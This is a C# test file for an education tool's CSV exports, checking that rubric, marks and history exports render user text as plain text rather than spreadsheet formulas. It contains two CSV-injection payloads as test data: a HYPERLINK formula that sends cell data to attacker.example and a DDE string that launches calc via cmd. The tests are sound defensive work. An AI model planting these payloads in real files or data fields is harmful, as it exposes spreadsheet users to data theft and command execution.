using System.Net;
using LtiPathways.LtiTool.Tests.Infrastructure;
using LtiPathways.Rubrics;
using LtiPathways.Rubrics.Tests.Import;
using Microsoft.EntityFrameworkCore;

namespace LtiPathways.LtiTool.Tests.Assessments;

/// <summary>Issue 11, finding 4: no export hands a spreadsheet a formula, and every export reads back as what was stored.</summary>
public sealed class SpreadsheetFormulasInExportsTests : IAsyncLifetime, IDisposable
{
    private const string Hyperlink = "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"Open\")";
    private const string Command = "@SUM(1+1)*cmd|' /C calc'!A0";

    private readonly ToolFactory factory = new();
    private AssessmentHarness harness = default!;

    public async Task InitializeAsync() => harness = await AssessmentHarness.StartAsync(factory);

    public Task DisposeAsync() => Task.CompletedTask;

    public void Dispose()
    {
        harness.Dispose();
        factory.Dispose();
    }

    [Fact]
    public async Task A_canvas_csv_with_formulas_is_exported_as_text_and_imports_again_unchanged()
    {
        var teacher = new LibraryClient(harness, await harness.TeacherAsync());
        var page = await teacher.PageAsync("/app/rubrics");
        var canvas = "Rubric Name,Criteria Name,Criteria Description,Criteria Enable Range,Rating Name,Rating Description,Rating Points\r\n"
            + $"\"{Quoted(Hyperlink)}\",+Good,\"{Command}\",false,\"\t=1+1\",\"\r=2+2\",4\r\n";
        Assert.Equal(HttpStatusCode.OK, (await teacher.UploadAsync(page, "/app/rubrics/import", "canvas.csv", canvas)).Status);
        var first = await harness.QueryAsync(db => db.Rubrics.Select(r => r.Id).SingleAsync());

        var (status, exported) = await teacher.GetAsync($"/app/rubrics/export?rubric={first}&format=csv");

        Assert.Equal(HttpStatusCode.OK, status);
        var row = ExportedCsv.Cells(exported)[1];
        Assert.All(new[] { row[0], row[1], row[2], row[4], row[5] }, cell => Assert.False(ExportedCsv.RunsAsFormula(cell), $"'{cell}' runs as a formula"));
        Assert.Equal("4", row[6]);
        Assert.Equal(HttpStatusCode.OK, (await teacher.UploadAsync(page, "/app/rubrics/import", "again.csv", exported)).Status);
        var versions = await harness.QueryAsync(db => db.RubricVersions.OrderBy(v => v.RubricId == first).Select(v => v.Json).ToListAsync());
        var titles = await harness.QueryAsync(db => db.Rubrics.Select(r => r.Title).ToListAsync());
        Assert.Equal([Hyperlink, Hyperlink], titles);
        var (again, original) = (Criteria(versions[0]), Criteria(versions[1]));
        Assert.Equal(original, again);
        Assert.Equal(("+Good", Command, "\t=1+1", "\r=2+2"), original);
    }

    [Fact]
    public async Task The_marks_export_writes_names_and_comments_as_text_and_points_as_numbers()
    {
        var student = await harness.Scenario.UserIdAsync(harness.Scenario.StudentSubject);
        var token = await harness.TeacherAsync();
        await RenameAsync(student, "\t=1+1");
        await harness.DraftAsync(token, student, null, AssessmentHarness.GoodMarks("-3 for the missing goggles " + Command));

        using var response = await harness.Scenario.Browser.GetAsync($"/app/assessments/export.csv?session={Uri.EscapeDataString(token)}");

        var rows = ExportedCsv.Cells(await response.Content.ReadAsStringAsync());
        var header = rows[0].ToList();
        var row = rows.Single(r => r[header.IndexOf("Status")] == "Draft");
        var (name, comment) = (row[header.IndexOf("Student")], row[header.IndexOf("Overall comment")]);
        Assert.False(ExportedCsv.RunsAsFormula(name), $"'{name}' runs as a formula");
        Assert.False(ExportedCsv.RunsAsFormula(comment), $"'{comment}' runs as a formula");
        Assert.Equal(["20", "24", "16.67", "20"], new[] { "Total", "Maximum", "LMS points", "Score maximum" }.Select(c => row[header.IndexOf(c)]));
        Assert.Equal(("\t=1+1", "-3 for the missing goggles " + Command), (SpreadsheetCsv.TextOf(name), SpreadsheetCsv.TextOf(comment)));
    }

    [Fact]
    public async Task The_history_export_writes_names_as_text_and_points_as_numbers()
    {
        var student = await harness.Scenario.UserIdAsync(harness.Scenario.StudentSubject);
        var token = await harness.TeacherAsync();
        await harness.OpenAsync(token);
        await harness.DraftAsync(token, student, null, AssessmentHarness.GoodMarks());
        await harness.ReleaseAsync(token, student);
        await RenameAsync(student, "\r=1+1");

        var (status, csv) = await new LibraryClient(harness, token).GetAsync($"/app/assessments/history.csv?student={student}");

        Assert.Equal(HttpStatusCode.OK, status);
        var row = ExportedCsv.Cells(csv)[1];
        Assert.False(ExportedCsv.RunsAsFormula(row[0]), $"'{row[0]}' runs as a formula");
        Assert.Equal("\r=1+1", SpreadsheetCsv.TextOf(row[0]));
        Assert.Equal(["1", "20", "24", "16.67", "20"], row[3..8]);
    }

    private static string Quoted(string text) => text.Replace("\"", "\"\"", StringComparison.Ordinal);

    private static (string, string, string, string) Criteria(string json)
    {
        var criterion = (LevelCriterion)RubricJson.Read(json).Value!.Current.Criteria[0];
        return (criterion.Title, criterion.Description, criterion.Levels[0].Title, criterion.Levels[0].Description);
    }

    private Task RenameAsync(Guid user, string name) =>
        harness.QueryAsync(db => db.Users.Where(u => u.Id == user).ExecuteUpdateAsync(u => u.SetProperty(x => x.Name, name)));
}
